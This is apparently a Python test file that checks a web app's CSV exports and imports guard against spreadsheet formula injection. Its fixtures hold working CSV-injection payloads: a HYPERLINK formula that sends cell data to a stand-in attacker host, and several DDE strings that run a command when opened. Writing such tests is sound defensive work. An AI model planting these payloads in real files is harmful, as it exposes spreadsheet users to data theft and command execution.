"""No CSV file Pulse writes can make a spreadsheet run a formula, and the structure file still round-trips
(issue 14, point 3; OWASP's CSV injection guidance)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

from click.testing import CliRunner
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.orm import Session

from pulse.cli import cli
from pulse.csvfile import FORMULA_STARTS, neutralise, restore, write_csv
from pulse.models import Department, ReasonTag, Team
from pulse.services import structure
from tests.admin.conftest import People, csrf_token, fresh, sign_in
from tests.factories import add_week, make_org

# From the outside test: a link that sends the row next to it away, and a command run through DDE.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Surgery")'
DDE = "+cmd|' /C calc'!A0"
NAMES = [HYPERLINK, DDE, "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "'=already quoted"]
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(text: str) -> None:
    runnable = [cell for cell in cells(text) if cell.startswith(RUNNABLE)]
    assert runnable == [], f"cells a spreadsheet would run: {runnable}"


@given(st.text())
def test_neutralise_is_undone_exactly_by_restore(text: str) -> None:
    written = neutralise(text)
    assert not written.startswith(RUNNABLE)
    assert restore(written) == text


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none()))
def test_numbers_stay_numbers(value: float | None) -> None:
    assert neutralise(value) == ("" if value is None else value)


def test_one_writer_quotes_every_formula_start() -> None:
    rows = [{"name": start + "1+1"} for start in FORMULA_STARTS]
    assert_no_formula(write_csv(rows, ["name"]))


def test_the_public_export_writes_no_formula(client: FlaskClient, session: Session) -> None:
    org = make_org(session, teams=2)
    org.department.name = HYPERLINK
    org.teams[0].name, org.teams[1].name = DDE, NAMES[2]
    session.commit()
    add_week(session, org, dt.date(2026, 11, 9), {0: (2, 3, 5, 10), 1: (1, 5, 9, 15)})

    text = client.get("/api/v1/figures/export.csv").get_data(as_text=True)

    assert_no_formula(text)
    names = {row["name"] for row in csv.DictReader(io.StringIO(text))}
    assert {"'" + HYPERLINK, "'" + DDE, "'" + NAMES[2]} <= names


def test_the_dashboards_downloads_quote_names_but_not_negative_scores() -> None:
    from dashboard.components import WEEK_COLUMNS, to_csv

    text = to_csv([{"team": DDE, "iso_week": "2026-W46", "net_score": -73}], ("team", *WEEK_COLUMNS))
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["team"] == "'" + DDE and row["net_score"] == "-73", "-73 is a number, not a formula"


def unit_names(session: Session) -> set[str]:
    fresh(session)
    departments = set(session.scalars(select(Department.name)))
    return (
        departments | set(session.scalars(select(Team.name))) | set(session.scalars(select(ReasonTag.label)))
    )


def test_the_structure_file_writes_no_formula_and_imports_back_unchanged(
    client: FlaskClient, people: People, session: Session
) -> None:
    people.org.department.name = HYPERLINK
    people.org.teams[0].name = DDE
    people.org.tags[0].label = NAMES[3]
    structure.add_team(session, people.second_department, NAMES[4], 12)
    session.commit()
    before = unit_names(session)
    sign_in(client, people.admin.email)

    exported = client.get("/admin/structure.csv").get_data(as_text=True)
    assert_no_formula(exported)

    upload = {
        "file": (io.BytesIO(exported.encode()), "structure.csv"),
        "csrf_token": csrf_token(client, "/admin/"),
    }
    page = client.post("/admin/structure", data=upload, content_type="multipart/form-data")
    assert page.status_code == 200, page.get_data(as_text=True)
    counts = re.findall(r"(\d+) created, (\d+) updated", page.get_data(as_text=True))
    assert len(counts) == 4 and set(counts) == {("0", "0")}, "importing the export again changes nothing"
    assert unit_names(session) == before


def test_pulse_export_structure_writes_no_formula(app, session: Session, database_url: str) -> None:  # type: ignore[no-untyped-def]
    org = make_org(session, teams=1)
    org.teams[0].name = HYPERLINK
    session.commit()
    result = CliRunner().invoke(
        cli, ["export-structure"], env={"PULSE_DATABASE_URL": database_url, "PULSE_ENV": "test"}
    )
    assert result.exit_code == 0, result.output
    assert_no_formula(result.output)
    assert "'" + HYPERLINK in cells(result.output)


def test_the_roster_files_write_no_formula_and_import_back_unchanged(
    client: FlaskClient, people: People, session: Session
) -> None:
    """The roster downloads (the whole roster and a team's) name teams and departments that someone typed."""
    from pulse.services.accounts import roster

    people.org.department.name = HYPERLINK
    people.org.team.name = DDE
    session.commit()
    before = roster.export_roster(session)
    sign_in(client, people.admin.email)

    for path in ("/admin/roster.csv", f"/admin/teams/{people.org.team.id}/roster.csv"):
        exported = client.get(path).get_data(as_text=True)
        assert_no_formula(exported)
        assert {"'" + HYPERLINK, "'" + DDE} <= set(cells(exported)), path

    upload = {
        "file": (io.BytesIO(client.get("/admin/roster.csv").data), "roster.csv"),
        "csrf_token": csrf_token(client, "/admin/"),
        "replace": "true",
    }
    page = client.post("/admin/roster", data=upload, content_type="multipart/form-data")
    assert page.status_code == 200, page.get_data(as_text=True)
    assert "0 added to teams, 0 removed from teams" in page.get_data(as_text=True), (
        "the export imports unchanged"
    )
    fresh(session)
    assert roster.export_roster(session) == before
